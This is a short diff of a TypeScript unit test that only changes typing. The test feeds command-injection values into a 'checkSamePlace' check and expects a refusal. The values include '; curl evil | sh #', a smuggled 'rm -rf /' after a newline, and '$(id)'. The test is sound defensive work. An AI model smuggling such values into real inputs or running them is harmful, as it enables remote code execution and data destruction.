@@ -22,14 +22,14 @@ describe('checkSamePlace', () => {
     );
   });
 
-  it.each([
+  it.each<Record<string, string>>([
     { '; curl evil | sh #': '1' },
     { account: '1; touch PWN #' },
     { region: 'a\nNext: rm -rf /' },
     { toString: 'x' },
     { bucket: '$(id)' },
   ])('makes no advice of what a journal should not hold: %j', async (begun) => {
-    const error = await refusal(begun as unknown as ProductionPlace, {});
+    const error = await refusal(begun, {});
     expect(error.hint).toBe('Nothing was changed.');
   });
 });
